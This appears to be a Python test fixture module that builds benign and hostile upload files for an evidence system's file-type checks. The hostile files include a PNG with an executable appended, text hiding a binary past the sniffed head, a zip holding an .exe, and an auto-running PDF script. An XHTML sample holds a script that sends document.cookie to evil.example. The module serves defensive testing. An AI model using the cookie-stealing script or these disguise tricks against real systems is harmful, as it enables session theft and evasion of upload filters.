"""Files for the evidence tests, good and hostile: real images (Pillow), a PDF with a correct cross-reference table,
an executable's first bytes, and the hostile files of issue 17 item 7."""

from __future__ import annotations

import io
import struct
import zipfile

from hrss.testing.documents import pdf_document


def image(fmt: str, size: tuple[int, int] = (8, 6)) -> bytes:
    """A real image in `fmt` (PNG, JPEG, GIF, TIFF, WEBP, BMP) that decodes completely."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def executable() -> bytes:
    """The start of a Windows PE executable: `MZ`, `e_lfanew` at 0x3C, and the `PE\\0\\0` header it points to."""
    dos = bytearray(b"MZ\x90\x00" + b"\x00" * 0x3C)
    dos[0x3C:0x40] = struct.pack("<I", 0x40)
    return bytes(dos[:0x40]) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 250


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def text_with_binary_after_the_sniffed_head() -> bytes:
    """UTF-8 text for the first 8 KiB and more, then an executable: today's sniff sees only text."""
    return ("现场检查笔录：企业负责人在场。\n" * 400).encode() + executable()


XHTML_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>'
    b"<body><p>\xe5\xb7\xa5\xe8\xb5\x84</p><script>document.location='http://evil.example/'+document.cookie"
    b"</script></body></html>\n"
)

PDF_WITH_JAVASCRIPT = pdf_document(
    "账簿", catalog=b"/OpenAction 5 0 R", objects=(b"<</S/JavaScript/JS(app.alert(1))>>",)
)

# the hostile files of issue 17 item 7, each with the name it was uploaded under
HOSTILE = {
    "png_with_pe_appended": ("现场照片.png", image("PNG") + executable()),
    "text_with_binary_after_8_kib": ("笔录.txt", text_with_binary_after_the_sniffed_head()),
    "xhtml_with_script_as_xml": ("数据.xml", XHTML_WITH_SCRIPT),
    "pdf_with_javascript": ("账簿.pdf", PDF_WITH_JAVASCRIPT),
    "zip_with_exe_inside": ("材料.zip", zipped({"说明.txt": "说明".encode(), "发票.exe": executable()})),
}
